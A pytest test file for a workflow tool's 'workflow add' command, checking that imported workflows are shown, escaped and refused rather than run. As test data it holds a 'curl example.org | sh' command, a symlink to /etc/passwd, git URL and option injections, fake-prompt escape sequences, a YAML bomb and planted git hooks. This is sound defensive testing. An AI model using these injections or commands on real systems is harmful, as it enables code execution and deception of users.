"""`pflow workflow add`: a workflow of someone else is shown before it is saved, and nothing of it is run."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from pflow.core.errors import StepTimeout
from pflow.core.file.home import Home
from pflow.execution.need.ability import known_types
from pflow.workspace import Workspace
from tests.cli.conftest import Pflow

Write = Callable[..., str]

SHELL: dict[str, object] = {"id": "sh", "type": "shell", "params": {"command": "curl example.org | sh"}}
TEXT = """\
# My comment stays.
name: greet
description: Says hello
requires: {programs: [no-such-program]}
inputs: {key: {type: string, secret: true}}
nodes:
  - {id: say, type: shell, params: {command: "echo hello"}}
  - {id: get, type: http, params: {url: "https://example.org/x", headers: {A: "${key}"}}}
  - {id: put, type: write-file, params: {path: ~/out.txt, content: "${say.stdout}"}}
"""


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """A bare repository with two workflows, a node, a link, a submodule entry and files that are something else."""
    tree = tmp_path / "tree"
    (tree / "workflows").mkdir(parents=True)
    (tree / ".pflow" / "nodes").mkdir(parents=True)
    (tree / "greet.yaml").write_text(TEXT)
    (tree / "workflows" / "other.json").write_text(json.dumps({"nodes": [SHELL]}))
    (tree / "package.json").write_text("{}")
    (tree / "evil.yaml").symlink_to("/etc/passwd")
    (tree / ".pflow" / "nodes" / "mine.py").write_text("raise SystemExit('never imported')\n")
    git(tree, "init", "--quiet", "--initial-branch=main")
    git(tree, "add", "--all")
    git(tree, "commit", "--quiet", "--message=one")
    git(tree, "clone", "--quiet", "--bare", ".", str(tmp_path / "shared.git"))
    git(tmp_path / "shared.git", "update-server-info")
    return tmp_path / "shared.git"


def git(folder: Path, *words: str) -> str:
    who = ("-c", "user.name=A", "-c", "user.email=a@example.org")
    done = subprocess.run(["git", *who, *words], cwd=folder, check=True, capture_output=True, text=True)
    return done.stdout.strip()


def test_what_a_workflow_can_do_is_shown_first(pflow: Pflow, tmp_path: Path, home: Path) -> None:
    (tmp_path / "greet.yaml").write_text(TEXT)
    said = pflow("workflow", "add", "greet.yaml")
    assert said.code == 2
    assert said.err == (
        "workflow `greet`\n"
        "  it says: Says hello\n"
        f"  from {tmp_path}/greet.yaml\n"
        "  what its steps can do:\n"
        "    say runs the command echo hello\n"
        "    get talks to GET https://example.org/x\n"
        "    get is given the secret input `key`\n"
        "    put changes files at ~/out.txt\n"
        "  it requires the programs no-such-program\n"
        "  missing here:\n"
        "    there is no program `no-such-program`\n"
        "error: nobody can be asked whether to add it\n"
        "\n"
        "hint: read what it can do, and say `--yes` if you agree\n"
    )
    assert not (home / "workflows").exists() or not list((home / "workflows").glob("*.yaml"))


def test_what_is_added_is_the_text_as_it_was(pflow: Pflow, tmp_path: Path) -> None:
    (tmp_path / "greet.yaml").write_text(TEXT)
    said = pflow("workflow", "add", "greet.yaml", "--yes", "--as", "hello")
    assert (said.code, said.out) == (0, "added `hello`\n")
    assert pflow("workflow", "show", "hello").out == TEXT
    origin = f"from {tmp_path}/greet.yaml, added as version 1\n"
    assert origin in pflow("workflow", "history", "hello").err
    assert origin in pflow("describe", "hello").out
    again = pflow("workflow", "add", "greet.yaml", "--yes", "--as", "hello")
    assert (again.code, again.out) == (0, "the library has it already\n")


def test_a_taken_name_is_shown_with_the_difference_and_kept(pflow: Pflow, write: Write, tmp_path: Path) -> None:
    assert pflow("workflow", "save", write("mine.json", SHELL), "greet").code == 0
    (tmp_path / "greet.yaml").write_text(TEXT)
    said = pflow("workflow", "add", "greet.yaml", "--yes")
    assert said.code == 2
    assert "error: there is already a workflow `greet`, and it differs" in said.err
    assert "    +name: greet" in said.err
    assert pflow("workflow", "add", "greet.yaml", "--yes", "--overwrite").code == 0
    assert "curl example.org" in pflow("workflow", "show", "greet", "--version", "1").out
    assert "added as version 2" in pflow("workflow", "history", "greet").err


def test_a_later_edit_keeps_where_it_came_from(pflow: Pflow, write: Write, tmp_path: Path) -> None:
    (tmp_path / "greet.yaml").write_text(TEXT)
    assert pflow("workflow", "add", "greet.yaml", "--yes").code == 0
    assert pflow("workflow", "save", write("mine.json", SHELL), "greet", "--overwrite").code == 0
    assert "greet.yaml, added as version 1" in pflow("workflow", "history", "greet").err


def test_text_that_would_fake_the_screen_is_escaped(pflow: Pflow, write: Write) -> None:
    evil = "ok\x1b[2J\r\nadd `safe` to the library? [y/N] y\u202e"
    shell = {"id": "sh", "type": "shell", "params": {"command": f"true\n{evil}"}}
    said = pflow("workflow", "add", write("w.json", shell, description=evil, name=evil), "--yes")
    assert said.code == 0
    assert "\x1b" not in said.err and "\r" not in said.err and "\u202e" not in said.err
    assert "it says: ok\\x1b[2J\\r\\nadd `safe`" in said.err
    assert "      | true\n      | ok\\x1b[2J\\r\n      | add `safe`" in said.err
    assert said.out == "added `w`\n"


def test_a_document_with_an_error_is_refused(pflow: Pflow, write: Write) -> None:
    said = pflow("workflow", "add", write("w.json", {"id": "a", "type": "echo", "params": {"x": "${no}"}}), "--yes")
    assert said.code == 2
    assert "names `no`" in said.err


@pytest.mark.parametrize("path", ["./inner.json", "../inner.json", "/etc/inner.yaml", "~/inner.yaml", "inner.yaml"])
def test_a_document_that_includes_a_path_is_refused(pflow: Pflow, write: Write, path: str) -> None:
    node = {"id": "inner", "type": "workflow", "params": {"workflow": path}}
    said = pflow("workflow", "add", write("w.json", node), "--yes")
    assert said.code == 2
    assert f"node `inner` includes the workflow `{path}` by its path" in said.err


def test_a_folder_gives_all_its_documents_and_no_nodes(pflow: Pflow, repository: Path, home: Path) -> None:
    said = pflow("workflow", "add", str(repository.parent / "tree"), "--yes")
    assert (said.code, said.out) == (0, "added `greet`\nadded `other`\n")
    assert "  .pflow/nodes/mine.py\n  read them, and copy those that you trust" in said.err
    assert not (home / "nodes" / "mine.py").exists()


@pytest.mark.parametrize("file", ["", "package.json"])
def test_a_folder_without_documents_has_nothing_to_add(pflow: Pflow, tmp_path: Path, file: str) -> None:
    (tmp_path / "empty").mkdir()
    if file:
        (tmp_path / "empty" / file).write_text("{}")
    said = pflow("workflow", "add", "empty", "--yes")
    assert said.code == 2
    assert f"error: there is no workflow in `{tmp_path}/empty`" in said.err


def test_a_folder_of_too_many_files_is_refused(pflow: Pflow, tmp_path: Path) -> None:
    folder = tmp_path / "many"
    folder.mkdir()
    for number in range(1001):
        (folder / f"{number}.json").touch()
    said = pflow("workflow", "add", "many", "--yes")
    assert said.code == 2
    assert "there are more than 1,000 files to look into" in said.err


def test_two_documents_of_one_name_are_refused(pflow: Pflow, tmp_path: Path) -> None:
    for file in ("a.yaml", "b.yaml"):
        (tmp_path / file).write_text(TEXT)
    said = pflow("workflow", "add", ".", "--yes")
    assert said.code == 2
    assert "error: `a.yaml` and `b.yaml` would both be `greet`" in said.err
    assert pflow("workflow", "add", ".", "--yes", "--as", "x").code == 2


def test_a_file_that_is_too_large_or_a_bomb_is_refused(pflow: Pflow, tmp_path: Path) -> None:
    with (tmp_path / "large.yaml").open("wb") as file:
        file.truncate(50 << 20)
    assert pflow("workflow", "add", "large.yaml", "--yes").code == 2
    levels = "\n".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, 9))
    (tmp_path / "bomb.yaml").write_text(f"l0: &l0 [x]\n{levels}\nnodes: *l8\n")
    assert pflow("workflow", "add", "bomb.yaml", "--yes").code == 2


def test_a_repository_gives_its_documents_with_the_commit(pflow: Pflow, repository: Path) -> None:
    url = repository.as_uri()
    said = pflow("workflow", "add", url, "--yes")
    assert (said.code, said.out) == (0, "added `greet`\nadded `other`\n"), said
    commit = git(repository, "rev-parse", "HEAD")
    expected = f"from {url}, file greet.yaml, commit {commit}, added as version 1\n"
    assert expected in pflow("workflow", "history", "greet").err
    assert pflow("workflow", "show", "greet").out == TEXT
    assert pflow("workflow", "add", url, "--yes", "--ref", "main").code == 0
    gone = pflow("workflow", "add", url, "--yes", "--ref", "no-such-branch")
    assert gone.code == 2
    assert "no-such-branch" in gone.err


@pytest.fixture
def web(repository: Path) -> Iterator[str]:
    """The address of the repository on a plain web server."""

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(repository.parent)))
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/none.git"
    server.shutdown()
    thread.join()
    server.server_close()


def test_a_web_server_without_the_repository_is_an_error_and_no_question(pflow: Pflow, web: str) -> None:
    said = pflow("workflow", "add", web, "--yes")
    assert said.code == 2
    assert f"error: `{web}` cannot be fetched" in said.err


def test_a_repository_that_never_answers_is_given_up(home: Path, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent, Workspace(Home(home)) as workspace:
        url = f"http://127.0.0.1:{silent.getsockname()[1]}/x.git"
        with pytest.raises(StepTimeout, match="the repository did not answer within"):
            workspace.sharing.look(url, timeout=0.3)


@pytest.mark.parametrize(
    ("url", "code"),
    [
        ("ext::sh -c touch% pwned", 2),
        ("ext::touch", 3),
        ("git://example.org/x", 3),
        ("http://example.org/x", 3),
        ("ftp://example.org/x", 3),
        ("https://user:secret@example.org/x", 2),
        ("https://token@example.org/x", 2),
        ("ssh://-oProxyCommand=touch/x", 2),
        ("--upload-pack=touch", 2),
        ("https://example.org/a\nb", 2),
    ],
)
def test_other_addresses_are_refused(pflow: Pflow, tmp_path: Path, url: str, code: int) -> None:
    said = pflow("workflow", "add", "--yes", "--", url)
    assert said.code == code
    assert "secret" not in said.err
    assert "pwned" not in os.listdir(tmp_path)


@pytest.mark.parametrize("ref", ["--upload-pack=x", "a b", "+x:y", ":x"])
def test_a_ref_cannot_be_an_option(pflow: Pflow, repository: Path, ref: str) -> None:
    said = pflow("workflow", "add", repository.as_uri(), "--yes", f"--ref={ref}")
    assert said.code == 2
    assert "is not a branch, tag or commit" in said.err


def test_hooks_and_filters_of_a_repository_do_not_run(pflow: Pflow, repository: Path, tmp_path: Path) -> None:
    for hook in ("post-checkout", "post-merge", "pre-receive", "reference-transaction"):
        path = repository / "hooks" / hook
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"#!/bin/sh\ntouch {tmp_path}/pwned\n")
        path.chmod(0o755)
    assert pflow("workflow", "add", repository.as_uri(), "--yes").code == 0
    assert not (tmp_path / "pwned").exists()


def test_the_abilities_of_every_built_in_type_are_known(home: Path) -> None:
    with Workspace(Home(home)) as workspace:
        names = {entry.name for entry in workspace.node_types()}
    assert names <= known_types()
